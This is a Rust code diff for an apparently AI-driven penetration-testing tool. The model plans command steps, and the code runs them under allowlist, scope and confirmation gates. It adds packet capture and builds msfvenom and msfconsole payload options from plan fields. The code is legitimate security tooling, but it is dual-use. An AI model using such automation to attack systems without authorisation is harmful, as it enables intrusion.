+                let planned_tools: Vec<String> = plan
+                    .steps
+                    .iter()
+                    .filter(|step| step.action_type == "command" && step.enabled && self.tags_selected(step) && self.action_allowed(&step.action_type))
+                    .filter_map(|step| step.command.as_deref())
+                    .flat_map(command_executor::get_tools_from_command)
+                    .filter(|tool| self.tool_allowed(tool) && !command_executor::unsupported_on_platform(tool, &self.system_setup))
+                    .collect();
+                self.system_setup.preflight_tools(&planned_tools).await;
+                // A missing wordlist would otherwise only surface when its step runs
+                self.check_wordlists(&plan.steps)?;
+
                 let mut step_outputs = Vec::new();
                 let final_explanation = explanation.clone(); // Use cloned explanation for final summary
 
-                for step in &plan.steps {
-                    let purpose = step.purpose.as_deref().unwrap_or("N/A").to_lowercase();
-                    println!("\n--- Running Step {}: {} ---", step.step, purpose);
+                // Declared step numbers are only labels; execution is always in list order
+                let step_problems = step_number_problems(&plan.steps);
+                for problem in &step_problems {
+                    println!("WARN: Plan step numbering: {}", problem);
+                }
+                if self.options.strict_steps && !step_problems.is_empty() {
+                    return Err(CoreError::InvalidPlan(format!("irregular step numbers ({})", step_problems.join("; "))));
+                }
 
-                    if step.action_type != "command" {
-                         println!("Skipping non-command action type: {}", step.action_type);
-                         step_outputs.push(format!("Step {}: Skipped (Action Type: {})", step.step, step.action_type));
-                         continue;
+                for (index, step) in plan.steps.iter().enumerate() {
+                    if self.run_time_left() == Some(Duration::ZERO) {
+                        println!(
+                            "WARN: Run deadline of {}s reached (timeouts.run_timeout_secs); skipping the remaining {} step(s).",
+                            self.options.run_timeout.map_or(0, |t| t.as_secs()),
+                            plan.steps.len() - index
+                        );
+                        break;
+                    }
+                    let purpose = step.purpose.as_deref().unwrap_or("N/A");
+                    // With bogus numbering, show the real position (placeholders still use the declared number)
+                    let label = if step_problems.is_empty() { step.step.to_string() } else { format!("{} (declared {})", index + 1, step.step) };
+                    println!("\n--- Running Step {} ---", label);
+                    println!("Purpose: {}", purpose);
+                    if step.enabled && self.tags_selected(step) && self.options.explain_plan && is_terse_purpose(step.purpose.as_deref()) {
+                        let started = Instant::now();
+                        self.explain_step(step, &explanation).await;
+                        self.context.model_time += started.elapsed();
                     }
 
-                    // DEBUG print remains helpful for now
-                    println!("DEBUG: Values before substitution for Step {}: {:?}", step.step, self.context.discovered_values);
-
-                    // --- Substitute Placeholders ---
-                let command_to_run = if let Some(command_template) = &step.command {
-                    // If there IS a command template string, substitute placeholders in it
-                    match self.substitute_placeholders(command_template.as_str()).await { // Use .as_str() here
-                        Ok(cmd) => cmd,
-                        Err(e) => return Err(anyhow!("Failed step {}: Substituting placeholders failed: {}", step.step, e)),
+                    if !step.enabled {
+                        println!("INFO: Step {} is disabled in the plan, skipping.", label);
+                        self.finish_step(skipped_entry(step, "Skipped (disabled)", StepStatus::Skipped), &label, &mut step_outputs).await;
+                        continue;
                     }
-                } else {
-                    // If step.command is None, set command_to_run to empty string
-                    println!("DEBUG: Step {} has no command string, proceeding with empty command.", step.step);
-                    String::new()
-                };
-                // --- End Substitution ---
 
-                let sanitized_command = sanitize_command(&command_to_run);
+                    if !self.tags_selected(step) {
+                        let tags = if step.tags.is_empty() { "untagged".to_string() } else { format!("tags: {}", step.tags.join(", ")) };
+                        println!("INFO: Step {} ({}) is filtered out by --only-tags/--skip-tags, skipping.", label, tags);
+                        self.finish_step(skipped_entry(step, "Skipped (filtered by tags)", StepStatus::Skipped), &label, &mut step_outputs).await;
+                        continue;
+                    }
 
-                // *** Declare step_output here, before the conditional execution ***
-                let mut step_output: String;
+                    // --- Action type gate --- engagement rules at the plan level, before any handler runs
+                    if !self.action_allowed(&step.action_type) {
+                        println!("BLOCKED: Step {} has action type '{}', which is not in allowed_actions.", label, step.action_type);
+                        self.finish_step(skipped_entry(step, "Blocked (action type not allowed)", StepStatus::Blocked), &label, &mut step_outputs).await;
+                        continue;
+                    }
 
-                // Decide whether to execute command or skip
-                if sanitized_command.is_empty() && step.command.is_none() {
-                    println!("INFO: Skipping execution for step {} as command is empty and was not defined.", step.step);
-                    // Assign the specific "skipped" message
-                    step_output = "Skipped (No command)".to_string(); // <<< Assignment
-                } else {
-                    // --- Execute Command --- (Only run if sanitized_command is not empty or was originally Some)
-                    println!("Executing: {}", sanitized_command);
-                    match command_executor::execute_command(&sanitized_command, &self.system_setup).await {
-                        Ok(output) => {
-                            println!("Output:\n{}", output);
-                            step_output = output.clone(); // <<< Assignment
-                            // Parse output
-                            self.parse_and_store_output(step, &sanitized_command, &step_output);
+                    // Built-in and custom action types all dispatch through the registry
+                    let Some(handler) = self.actions.get(&step.action_type) else {
+                        println!("Skipping action type with no registered handler: {}", step.action_type);
+                        let skipped = format!("Skipped (no handler for action type '{}')", step.action_type);
+                        self.finish_step(skipped_entry(step, &skipped, StepStatus::Skipped), &label, &mut step_outputs).await;
+                        continue;
+                    };
+                    let ActionOutput { performed, output: step_output, status } = match handler.handle(step, self).await {
+                        Ok(done) => done,
+                        Err(e) => {
+                            self.stop_captures(None).await;
+                            return Err(e);
                         }
-                        Err(e) => match e {
-                            ExecutionError::UnsupportedPlatform(msg) => {
-                                eprintln!("Skipping command (Unsupported Platform): {}", msg);
-                                step_output = "Skipped (Unsupported Platform)".to_string(); // <<< Assignment
-                            }
-                            _ => {
-                                // If execution fails for other reasons, we return early,
-                                // so step_output doesn't need assignment here for the later code path.
-                                eprintln!("Command Execution Failed: {}", e);
-                                return Err(anyhow!("Execution failed at step {}: {}", step.step, e));
-                            }
-                        }
-                    }
-                    // --- End Command Execution ---
-                } // End of the 'else' block for execution
+                    };
 
-                // Now, step_output is guaranteed to be initialized on all paths that reach here
-                self.context.command_history.push(format!("Step {}: {} ->\n{}", step.step, sanitized_command, step_output));
-                step_outputs.push(format!("Output from Step {}:\n{}", step.step, step_output));
+                    self.finish_step(HistoryEntry { step: step.step, command: performed, output: step_output, status }, &label, &mut step_outputs).await;
 
             } // End loop
+            self.stop_captures(None).await;
 
             Ok(format!("Plan Execution Summary:\n{}\n\n{}", final_explanation, step_outputs.join("\n---\n")))
             }
             // Error handling remains the same
-            Err(e) => Err(anyhow!("Failed to parse LLM JSON plan: {}. Raw response: {}", e, json_response)),
+            Err(e) => Err(CoreError::PlanParse { error: e, raw: json_response.to_string() }),
         }
 }
 
+    // Every step, run or not, ends here: history (and post_step_hook), its output for the summary
+    // and {step_N_output}/{last_output}, then the captures that run until it are stopped
+    async fn finish_step(&mut self, entry: HistoryEntry, label: &str, step_outputs: &mut Vec<String>) {
+        let (step, output) = (entry.step, entry.output.clone());
+        self.record_step(entry).await;
+        step_outputs.push(format!("Output from Step {}:\n{}", label, output));
+        self.context.step_outputs.push((step, output));
+        self.stop_captures(Some(step)).await;
+    }
+
+    // Adds a finished step to the history, then tells the post_step_hook about it
+    async fn record_step(&mut self, entry: HistoryEntry) {
+        if let Some(hook) = &self.options.post_step_hook {
+            command_executor::run_post_step_hook(hook, entry.step, &entry.command, &entry.status.to_string()).await;
+        }
+        self.context.command_history.push(entry);
+    }
+
+    // --- Plan editing (--edit-plan) ---
+    // Opens the plan as JSON in $VISUAL/$EDITOR and runs whatever comes back; an invalid edit can
+    // be re-opened or the run abandoned. A --save-plan file gets the edited version.
+    async fn edit_plan(&self, plan: MultiStepResponse) -> std::result::Result<MultiStepResponse, CoreError> {
+        if !std::io::stdin().is_terminal() {
+            return Err(CoreError::Other(anyhow!("--edit-plan needs a terminal to run the editor in")));
+        }
+        let editor = std::env::var("VISUAL")
+            .or_else(|_| std::env::var("EDITOR"))
+            .unwrap_or_else(|_| if cfg!(windows) { "notepad".to_string() } else { "vi".to_string() });
+        let mut editor_words = editor.split_whitespace();
+        let editor_program = editor_words.next().unwrap_or("vi").to_string();
+        let editor_args: Vec<String> = editor_words.map(str::to_string).collect();
+
+        // Random name, only readable by us, removed when `path` is dropped
+        let json = serde_json::to_string_pretty(&plan).context("Failed to serialize plan")?;
+        let mut file = tempfile::Builder::new().prefix("hacker-rs-plan-").suffix(".json").tempfile().context("Failed to create a temp file for the plan")?;
+        file.write_all(json.as_bytes()).context(format!("Failed to write plan for editing to {}", file.path().display()))?;
+        let path = file.into_temp_path();
+
+        let edited = loop {
+            println!("INFO: Opening the plan in {} ({}); save and close the editor to continue.", editor_program, path.display());
+            let status = tokio::process::Command::new(&editor_program)
+                .args(&editor_args)
+                .arg(&path)
+                .status()
+                .await
+                .context(format!("Failed to start editor '{}' (set $EDITOR)", editor_program))?;
+            if !status.success() {
+                break Err(CoreError::InvalidPlan(format!("editor exited with {}, plan not run", status)));
+            }
+            let text = std::fs::read_to_string(&path).context(format!("Failed to read edited plan {}", path.display()))?;
+            // The same lenient parsing as a model reply, so one bad step doesn't throw away the edit
+            match parse_plan(&text) {
+                Ok(edited) => break Ok(edited),
+                Err(e) => {
+                    println!("ERROR: Edited plan is not valid: {}", e);
+                    print!("Edit it again? [Y/n] ");
+                    std::io::stdout().flush().context("Failed to flush stdout")?;
+                    // Yes is the default here, but not when nobody answered
+                    let again = prompt::read_answer().await?.is_some_and(|answer| !matches!(answer.to_lowercase().as_str(), "n" | "no"));
+                    if !again {
+                        break Err(CoreError::InvalidPlan(format!("edited plan is not valid: {}", e)));
+                    }
+                }
+            }
+        };
+        drop(path);
+        let edited = edited?;
+        println!("INFO: Running the edited plan ({} step(s)).", edited.steps.len());
+        Ok(edited)
+    }
+
+    // --- Background captures ---
+    // Starts a capture for a `capture` step; its pcap path is stored right away so later steps can use it
+    pub(crate) async fn start_capture(&mut self, step: u32, interface: Option<&str>, filter: Option<&str>, path: &Path, until_step: Option<u32>) -> std::result::Result<String, CoreError> {
+        if self.system_setup.remote().is_some() {
+            return Err(CoreError::Blocked { step, reason: "capture steps only run locally (not with --remote)".to_string() });
+        }
+        // The same allowlist and scope gates as a command step: the capture tool must be allowed and
+        // the filter must not name an excluded host or port
+        let installed = command_executor::installed_capture_tools();
+        if installed.is_empty() {
+            let source = ExecutionError::DependencyFailure("capture steps need tcpdump or dumpcap on the PATH".to_string());
+            return Err(CoreError::StepFailed { step, source });
+        }
+        let Some(tool) = installed.iter().copied().find(|tool| self.tool_allowed(tool)) else {
+            return Err(CoreError::Blocked { step, reason: "tool not in allowlist".to_string() });
+        };
+        if let Some(reason) = filter.and_then(|filter| self.options.scope.check_command(filter)) {
+            return Err(CoreError::Blocked { step, reason: reason.to_string() });
+        }
+        let linux = matches!(self.system_setup.platform, crate::setup::Platform::KaliLinux | crate::setup::Platform::OtherLinux);
+        let sudo = self.options.auto_sudo && linux && !self.system_setup.is_admin();
+        let child = command_executor::start_capture(tool, interface, filter, path, sudo)
+            .await
+            .map_err(|source| CoreError::StepFailed { step, source })?;
+        let path_text = path.display().to_string();
+        self.store_value("pcap_path", path_text.clone());
+        self.store_value(&format!("capture_{}_pcap", step), path_text);
+        self.captures.push(BackgroundCapture::new(step, until_step, path.to_path_buf(), child));
+        Ok(format!("{} on {}{}", tool, interface.unwrap_or("the default interface"), filter.map(|f| format!(" ({})", f)).unwrap_or_default()))
+    }
+
+    // Stops captures due after `after_step`, or every capture when None (end of plan / error)
+    async fn stop_captures(&mut self, after_step: Option<u32>) {
+        let (due, keep): (Vec<_>, Vec<_>) = std::mem::take(&mut self.captures)
+            .into_iter()
+            .partition(|capture| after_step.is_none() || capture.until_step == after_step);
+        self.captures = keep;
+        for capture in due {
+            let step = capture.step;
+            let path = capture.stop().await;
+            println!(">>> Capture from step {} saved to {}", step, path.display());
+        }
+    }
+
+    // --- Plan confirmation (--confirm-plan) ---
+    // One yes/no for the whole plan, after showing what it would touch
+    async fn confirm_plan(&self, steps: &[CommandStep]) -> std::result::Result<bool, CoreError> {
+        if !std::io::stdin().is_terminal() {
+            return Err(CoreError::Other(anyhow!("--confirm-plan needs a terminal to ask in")));
+        }
+        println!("\n--- Plan Summary ---\n{}", self.plan_summary(steps));
+        Ok(prompt::confirm("Run this plan? [y/N] ").await?)
+    }
+
+    // Targets (after filling in what is already known), tools and action types of the steps that
+    // would run, plus anything the gates would stop
+    fn plan_summary(&self, steps: &[CommandStep]) -> String {
+        let (running, skipped): (Vec<&CommandStep>, Vec<&CommandStep>) = steps.iter().partition(|step| step.enabled && self.tags_selected(step));
+        let mut actions: BTreeMap<&str, usize> = BTreeMap::new();
+        let mut tools: Vec<String> = Vec::new();
+        let mut targets: Vec<String> = Vec::new();
+        let mut writes: Vec<String> = Vec::new();
+        let mut pending: Vec<String> = Vec::new();
+        let mut stopped: Vec<String> = Vec::new();
+        let add = |list: &mut Vec<String>, item: String| {
+            if !list.contains(&item) {
+                list.push(item);
+            }
+        };
+        for step in &running {
+            *actions.entry(step.action_type.as_str()).or_default() += 1;
+            if !self.action_allowed(&step.action_type) {
+                add(&mut stopped, format!("step {}: action type '{}' not allowed", step.step, step.action_type));
+                continue;
+            }
+            let text = [step.command.as_deref(), step.rhost.as_deref()].into_iter().flatten().collect::<Vec<_>>().join(" ");
+            let mut filled = text.clone();
+            for name in placeholders_in(&text) {
+                let known = self
+                    .context
+                    .discovered_values
+                    .get(&name)
+                    .cloned()
+                    .or_else(|| self.resolve_wordlist_placeholder(&name).and_then(|r| r.ok()))
+                    // {cidr_hosts} and friends all stand for addresses in subnet_cidr
+                    .or_else(|| self.context.discovered_values.get("subnet_cidr").filter(|_| CIDR_PLACEHOLDERS.contains(&name.as_str())).cloned());
+                match known {
+                    Some(value) => filled = filled.replace(&format!("{{{}}}", name), &value),
+                    None => add(&mut pending, format!("{{{}}}", name)),
+                }
+            }
+            for found in CIDR_RE.find_iter(&filled).chain(IPV4_RE.find_iter(&filled)) {
+                let target = found.as_str().to_string();
+                if !targets.iter().any(|t| t.starts_with(&format!("{}/", target))) {
+                    add(&mut targets, target);
+                }
+            }
+            if step.action_type == "command" {
+                for tool in command_executor::get_tools_from_command(&filled) {
+                    if !self.tool_allowed(&tool) {
+                        add(&mut stopped, format!("step {}: '{}' not in allowed_tools", step.step, tool));
+                    }
+                    add(&mut tools, tool);
+                }
+                if let Some(reason) = self.check_scope(step, &filled) {
+                    add(&mut stopped, format!("step {}: {}", step.step, reason));
+                }
+            }
+            if step.action_type == "write_file" {
+                let path = step.options.get("path").map_or("(no path)", String::as_str);
+                add(&mut writes, format!("{} (in {})", path, self.artifact_dir().display()));
+            }
+        }
+
+        let or_none = |list: &[String]| if list.is_empty() { "(none)".to_string() } else { list.join(", ") };
+        let mut lines = vec![format!(
+            "Steps:   {} to run{}",
+            running.len(),
+            if skipped.is_empty() { String::new() } else { format!(" ({} disabled or filtered by tags)", skipped.len()) }
+        )];
+        lines.push(format!("Actions: {}", if actions.is_empty() { "(none)".to_string() } else { actions.iter().map(|(a, n)| format!("{} x{}", a, n)).collect::<Vec<_>>().join(", ") }));
+        lines.push(format!("Tools:   {}", or_none(&tools)));
+        lines.push(format!("Targets: {}", or_none(&targets)));
+        if !writes.is_empty() {
+            lines.push(format!("Writes:  {}", writes.join(", ")));
+        }
+        if !pending.is_empty() {
+            lines.push(format!("Learned during the run: {}", pending.join(", ")));
+        }
+        if !stopped.is_empty() {
+            lines.push(format!("Would be blocked: {}", stopped.join("; ")));
+        }
+        lines.join("\n")
+    }
+
+    // --- Step rationale (--explain-plan) ---
+    // Asks the model, in free text, why a step with a missing/terse purpose is part of the plan.
+    // Best effort: a failed request only costs the explanation.
+    async fn explain_step(&self, step: &CommandStep, plan_explanation: &str) {
+        let prompt = format!(
+            "A command-line plan was made for this goal: {}\n\nExplain in one or two sentences why this step is part of the plan and what it achieves.\nStep {} ({}): {}\nStated purpose: {}",
+            plan_explanation,
+            step.step,
+            step.action_type,
+            step.command.as_deref().unwrap_or("(no command)"),
+            step.purpose.as_deref().unwrap_or("none")
+        );
+        match self.client.generate_text(&prompt).await {
+            Ok(why) if !why.is_empty() => println!("Why: {}", why),
+            Ok(_) => {}
+            Err(e) => println!("WARN: Could not get an explanation for step {}: {}", step.step, e),
+        }
+    }
+
+    // --- Plan critique (--review) ---
+    // Sends the plan back to the model for a safety/correctness review and prints the answer.
+    // Advisory only: the plan runs unchanged, and a failed request just skips the review.
+    async fn review_plan(&self, explanation: &str, steps: &[CommandStep]) {
+        let steps_json = match serde_json::to_string_pretty(steps) {
+            Ok(json) => json,
+            Err(e) => {
+                println!("WARN: Could not serialize the plan for review: {}", e);
+                return;
+            }
+        };
+        let prompt = format!(
+            "Review this command-line plan for safety and correctness before it runs on {}.\nGoal: {}\n\nSteps (JSON):\n{}\n\nFlag any step that is risky (destructive, noisy, out of scope, needs privileges) or wrong (bad syntax, wrong tool or flags, placeholders that won't be known yet), one line per finding with its step number. If nothing is wrong, say so in one sentence.",
+            self.system_setup.platform, explanation, steps_json
+        );
+        println!("\n--- Plan Review ---");
+        match self.client.generate_text(&prompt).await {
+            Ok(critique) if !critique.is_empty() => println!("{}", critique),
+            Ok(_) => println!("(the model gave no review)"),
+            Err(e) => println!("WARN: Plan review failed: {}", e),
+        }
+    }
+
+    // --- Vague step expansion (advanced.expand_vague_steps / --expand-vague) ---
+    // Replaces each command-less step that only states a purpose with the concrete steps the model
+    // gives for it, re-checking the result up to MAX_EXPANSION_DEPTH times. Steps are renumbered
+    // and {step_N_output} references follow them. A failed expansion keeps the original step.
+    async fn expand_vague_steps(&self, mut steps: Vec<CommandStep>, goal: &str) -> Vec<CommandStep> {
+        for _ in 0..MAX_EXPANSION_DEPTH {
+            if !steps.iter().any(is_vague_step) {
+                break;
+            }
+            let mut groups: Vec<(u32, Vec<CommandStep>, bool)> = Vec::new();
+            for step in steps {
+                if !is_vague_step(&step) {
+                    groups.push((step.step, vec![step], false));
+                    continue;
+                }
+                let purpose = step.purpose.clone().unwrap_or_default();
+                println!("INFO: Step {} has no command (\"{}\"); asking the model to break it down.", step.step, purpose);
+                match self.request_expansion(&purpose, goal).await {
+                    Ok(expansion) if !expansion.is_empty() => {
+                        println!("INFO: Step {} expanded into {} step(s).", step.step, expansion.len());
+                        groups.push((step.step, expansion, true));
+                    }
+                    Ok(_) => {
+                        println!("WARN: The model returned no steps for step {}; keeping it as is.", step.step);
+                        groups.push((step.step, vec![step], false));
+                    }
+                    Err(e) => {
+                        println!("WARN: Could not expand step {}: {}", step.step, e);
+                        groups.push((step.step, vec![step], false));
+                    }
+                }
+            }
+            steps = renumber_expanded(groups);
+        }
+        steps
+    }
+
+    // One generation through the normal plan prompt, asking only for the breakdown of `purpose`
+    async fn request_expansion(&self, purpose: &str, goal: &str) -> Result<Vec<CommandStep>> {
+        let task = format!(
+            "Break this down into concrete executable commands: {}\n(This is one step of a larger plan: {})",
+            purpose,
+            if goal.is_empty() { "no overall goal given" } else { goal }
+        );
+        let os_info = self.system_setup.platform.to_string();
+        let prompt = self.client.format_prompt(&task_message(&os_info, &task, self.background_notes.as_deref(), ""));
+        let (json, _) = self.client.generate(&prompt, None, &self.system_setup).await?;
+        let plan = parse_plan(&json).context(format!("Expansion is not a valid plan: {}", json))?;
+        Ok(plan.steps)
+    }
+
+    // --- "command" action ---
+    // A `{rhost}` command runs once per RHOST target (results kept per target); otherwise once.
+    pub(crate) async fn run_command_step(&mut self, step: &CommandStep) -> std::result::Result<ActionOutput, CoreError> {
+        let targets = self.step_targets(step).await?;
+        let template = step.command.as_deref().unwrap_or_default();
+        match targets.as_slice() {
+            [] => self.run_command_template(step, step.command.as_deref()).await,
+            [target] => self.run_command_template(step, Some(&template.replace(RHOST_PLACEHOLDER, target))).await,
+            _ => {
+                println!("INFO: Step {} runs once for each of {} targets: {}", step.step, targets.len(), targets.join(", "));
+                let mut results = BTreeMap::new();
+                for target in &targets {
+                    println!("--- Step {} target {} ---", step.step, target);
+                    // Each run is scope-checked against its own target only
+                    let mut target_step = step.clone();
+                    target_step.rhost = Some(target.clone());
+                    let command = template.replace(RHOST_PLACEHOLDER, target);
+                    let result = match self.run_command_template(&target_step, Some(&command)).await {
+                        Ok(done) => StepResult { success: done.status == StepStatus::Succeeded, output: done.output },
+                        Err(CoreError::StepFailed { source, .. }) => {
+                            StepResult { success: false, output: source.to_string() }
+                        }
+                        Err(e) => return Err(e),
+                    };
+                    results.insert(target.clone(), result);
+                }
+                let output = results
+                    .iter()
+                    .map(|(target, result)| format!("{} -> {}", target, result.output.trim_end()))
+                    .collect::<Vec<_>>()
+                    .join("\n");
+                // Individual failures are in the per-target results
+                let status = if results.values().all(|r| r.success) { StepStatus::Succeeded } else { StepStatus::Failed };
+                self.context.target_results.insert(step.step, results);
+                Ok(ActionOutput { performed: format!("{} (for each of: {})", sanitize_command(template), targets.join(", ")), output, status })
+            }
+        }
+    }
+
+    // Targets listed in the step's RHOST field, when its command uses {rhost}
+    async fn step_targets(&self, step: &CommandStep) -> std::result::Result<Vec<String>, CoreError> {
+        let (Some(rhost), Some(command)) = (&step.rhost, &step.command) else {
+            return Ok(Vec::new());
+        };
+        if !command.contains(RHOST_PLACEHOLDER) {
+            return Ok(Vec::new());
+        }
+        let rhost = self.substitute_placeholders(step.step, rhost).await?;
+        let mut targets: Vec<String> = Vec::new();
+        for target in rhost.split(|c: char| c == ',' || c.is_whitespace()).filter(|t| !t.is_empty()) {
+            if !targets.iter().any(|t| t == target) {
+                targets.push(target.to_string());
+            }
+        }
+        Ok(targets)
+    }
+
+    // Substitutes placeholders, applies the allowlist/scope gates, runs the command and parses its output
+    async fn run_command_template(&mut self, step: &CommandStep, command: Option<&str>) -> std::result::Result<ActionOutput, CoreError> {
+        // DEBUG print remains helpful for now
+        println!("DEBUG: Values before substitution for Step {}: {:?}", step.step, self.shown_values());
+
+        // --- Substitute Placeholders ---
+        let mut missing_value = None;
+        let command_to_run = if let Some(command_template) = command {
+            // If there IS a command template string, substitute placeholders in it
+            match self.substitute_command_placeholders(step.step, command_template).await {
+                Ok(cmd) => cmd,
+                Err(CoreError::MissingValue { key, .. }) if self.options.skip_unresolved => {
+                    missing_value = Some(key);
+                    command_template.to_string()
+                }
+                Err(e) => return Err(e),
+            }
+        } else {
+            // If step.command is None, set command_to_run to empty string
+            println!("DEBUG: Step {} has no command string, proceeding with empty command.", step.step);
+            String::new()
+        };
+        // --- End Substitution ---
+
+        // --- Tool defaults --- org conventions the model doesn't have to remember
+        let command_to_run = match command_executor::apply_tool_defaults(&command_to_run, &self.options.tool_defaults) {
+            Some(augmented) => {
+                println!("INFO: Step {}: applied tool_defaults: {}", step.step, augmented);
+                augmented
+            }
+            None => command_to_run,
+        };
+
+        let mut sanitized_command = sanitize_command(&command_to_run);
+        // msfvenom reads its options as KEY=VALUE arguments and msfconsole from its -x script; fill
+        // them in from the step's fields
+        let msf_tool = command_executor::get_tool_from_command(&sanitized_command);
+        if missing_value.is_none() && msf_tool.as_deref() == Some("msfvenom") {
+            sanitized_command = self.with_msf_options(step, &sanitized_command).await?;
+        } else if missing_value.is_none() && msf_tool.as_deref() == Some("msfconsole") {
+            sanitized_command = self.with_msfconsole_options(step, &sanitized_command).await?;
+        }
+        // Commands that would sit at a prompt: use the batch form when there is a safe one
+        if !self.options.attach_stdin && missing_value.is_none() {
+            match command_executor::check_interactive(&sanitized_command) {
+                InteractiveCheck::Ok => {}
+                InteractiveCheck::Rewritten { command, change } => {
+                    println!("INFO: Step {} would prompt for input; {}: {}", step.step, change, command);
+                    sanitized_command = command;
+                }
+                InteractiveCheck::MayPrompt(reason) => {
+                    println!("WARN: Step {} may wait for input ({}). Use --attach-stdin to answer prompts yourself.", step.step, reason);
+                }
+            }
+        }
+
+        // --- Shell state --- a leading cd/export would die with this step's shell; carry it over instead
+        if missing_value.is_none() {
+            let (changes, rest) = command_executor::split_state_changes(&sanitized_command);
+            let rest = rest.to_string();
+            if changes.is_empty() {
+                // Nothing to carry over
+            } else if self.system_setup.remote().is_some() {
+                println!("WARN: Step {} starts with cd/export, which does not carry over to later steps with --remote; combine it with the commands that need it (cd DIR && ...).", step.step);
+            } else {
+                let applied = self.apply_state_changes(step.step, changes).map_err(|e| CoreError::StepFailed {
+                    step: step.step,
+                    source: ExecutionError::CommandFailure(e),
+                })?;
+                if rest.is_empty() {
+                    return Ok(ActionOutput { performed: sanitized_command, output: applied, status: StepStatus::Succeeded });
+                }
+                sanitized_command = rest;
+            }
+        }
+
+        // *** Declare step_output here, before the conditional execution ***
+        let mut step_output: String;
+        let status: StepStatus;
+
+        // Decide whether to execute command or skip
+        if let Some(key) = &missing_value {
+            println!("INFO: Skipping step {}: required value '{}' was never discovered.", step.step, key);
+            step_output = format!("Skipped (missing required value: {})", key);
+            status = StepStatus::Skipped;
+        } else if sanitized_command.is_empty() && command.is_none() {
+            println!("INFO: Skipping execution for step {} as command is empty and was not defined.", step.step);
+            // Assign the specific "skipped" message
+            step_output = "Skipped (No command)".to_string(); // <<< Assignment
+            status = StepStatus::Skipped;
+        } else if let Some(tool) = self.disallowed_tool(&sanitized_command) {
+            // --- Allowlist Gate --- checked before any other safety rule
+            println!("BLOCKED: Step {} uses '{}', which is not in allowed_tools: {}", step.step, tool, sanitized_command);
+            step_output = CoreError::Blocked { step: step.step, reason: "tool not in allowlist".to_string() }.to_string();
+            status = StepStatus::Blocked;
+        } else if let Some(reason) = self.check_scope(step, &sanitized_command) {
+            // --- Scope Gate --- exclusions always win over whatever the model planned
+            println!("BLOCKED: Step {} targets an out-of-scope address ({}): {}", step.step, reason, sanitized_command);
+            step_output = CoreError::Blocked { step: step.step, reason: reason.to_string() }.to_string();
+            status = StepStatus::Blocked;
+        } else if let Some(reason) = oversized_cidr(&sanitized_command, self.options.max_cidr_hosts) {
+            // --- CIDR size Gate --- (scope.max_cidr_hosts)
+            println!("BLOCKED: Step {}: {}", step.step, reason);
+            step_output = CoreError::Blocked { step: step.step, reason }.to_string();
+            status = StepStatus::Blocked;
+        } else {
+            // --- Execute Command --- (Only run if sanitized_command is not empty or was originally Some)
+            println!("Executing: {}", self.redact_secrets(&sanitized_command));
+            let with_headers = self.with_http_headers(&sanitized_command);
+            let with_port_exclusions = self.with_nmap_excluded_ports(&with_headers);
+            let (command_to_execute, xml_report) = self.with_nmap_xml_report(&with_port_exclusions);
+            match self.run_command(&command_to_execute).await {
+                Ok(output) => {
+                    if !self.options.stream_output {
+                        println!("Output:\n{}", display_excerpt(&output, self.options.max_display_lines));
+                    }
+                    step_output = output.clone(); // <<< Assignment
+                    status = StepStatus::Succeeded;
+                    // Parse output (plus the structured nmap report if we asked for one)
+                    let artifact = xml_report.as_ref().and_then(|path| std::fs::read_to_string(path).ok());
+                    self.parse_and_store_output(step, &sanitized_command, &step_output, artifact.as_deref());
+                }
+                Err(e) => match e {
+                    ExecutionError::UnsupportedPlatform(msg) => {
+                        eprintln!("Skipping command (Unsupported Platform): {}", msg);
+                        step_output = "Skipped (Unsupported Platform)".to_string(); // <<< Assignment
+                        status = StepStatus::Skipped;
+                    }
+                    ExecutionError::TimedOut(secs) => {
+                        println!("WARN: Step {} timed out after {}s and was killed (timeouts.exec_timeout_secs).", step.step, secs);
+                        step_output = format!("Timed out after {}s", secs);
+                        status = StepStatus::Failed;
+                    }
+                    ExecutionError::Aborted => {
+                        println!("INFO: Step {} aborted. Press Ctrl-C again within {}s to abort the whole run.", step.step, ABORT_RUN_WINDOW.as_secs());
+                        if command_executor::ctrl_c_within(ABORT_RUN_WINDOW).await {
+                            return Err(CoreError::Aborted);
+                        }
+                        step_output = "Aborted by user".to_string();
+                        status = StepStatus::Aborted;
+                    }
+                    _ => {
+                        // If execution fails for other reasons, we return early,
+                        // so step_output doesn't need assignment here for the later code path.
+                        eprintln!("Command Execution Failed: {}", e);
+                        return Err(CoreError::StepFailed { step: step.step, source: e });
+                    }
+                }
+            }
+            // --- End Command Execution ---
+        } // End of the 'else' block for execution
+
+        Ok(ActionOutput { performed: sanitized_command, output: step_output, status })
+    }
+
+    // --- msfvenom option builder ---
+    // Appends PAYLOAD: as `-p` and LHOST/LPORT/RHOST/RPORT/EXITFUNC/TARGETURI plus the options map
+    // as KEY=VALUE, skipping any the command already sets. Values are substituted, then quoted for
+    // the target platform's shell so spaces and metacharacters survive as one argument.
+    async fn with_msf_options(&self, step: &CommandStep, command: &str) -> std::result::Result<String, CoreError> {
+        let windows = self.commands_run_on_windows();
+        let words: Vec<String> = command.split_whitespace().map(|w| w.trim_start_matches(['\'', '"']).to_lowercase()).collect();
+        let mut built = command.to_string();
+
+        if let Some(payload) = &step.payload {
+            if !words.iter().any(|w| w == "-p" || w == "--payload") {
+                let payload = self.substitute_placeholders(step.step, payload).await?;
+                built.push_str(&format!(" -p {}", command_executor::quote_arg(&payload, windows)));
+            }
+        }
+        for (key, value) in msf_option_pairs(step) {
+            let prefix = format!("{}=", key.to_lowercase());
+            if words.iter().any(|w| w.starts_with(&prefix)) {
+                continue;
+            }
+            let value = self.substitute_placeholders(step.step, &value).await?;
+            built.push(' ');
+            built.push_str(&command_executor::quote_arg(&format!("{}={}", key, value), windows));
+        }
+        Ok(built)
+    }
+
+    // --- msfconsole option builder ---
+    // The same fields (PAYLOAD: included) go in front of the -x script as `setg KEY VALUE;`, which
+    // holds for whichever module the script then `use`s; keys the script already sets are skipped.
+    // Without -x one is added. A value msfconsole's script or the shell can't carry as-is (`;`,
+    // quotes, `$`, ...) is left out with a warning rather than escaped.
+    async fn with_msfconsole_options(&self, step: &CommandStep, command: &str) -> std::result::Result<String, CoreError> {
+        let lower = command.to_lowercase();
+        let payload = step.payload.clone().map(|p| ("PAYLOAD".to_string(), p));
+        let mut script = String::new();
+        for (key, value) in payload.into_iter().chain(msf_option_pairs(step)) {
+            let key_lower = key.to_lowercase();
+            if [format!("set {} ", key_lower), format!("setg {} ", key_lower)].iter().any(|set| lower.contains(set.as_str())) {
+                continue;
+            }
+            let value = self.substitute_placeholders(step.step, &value).await?;
+            let key_ok = key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
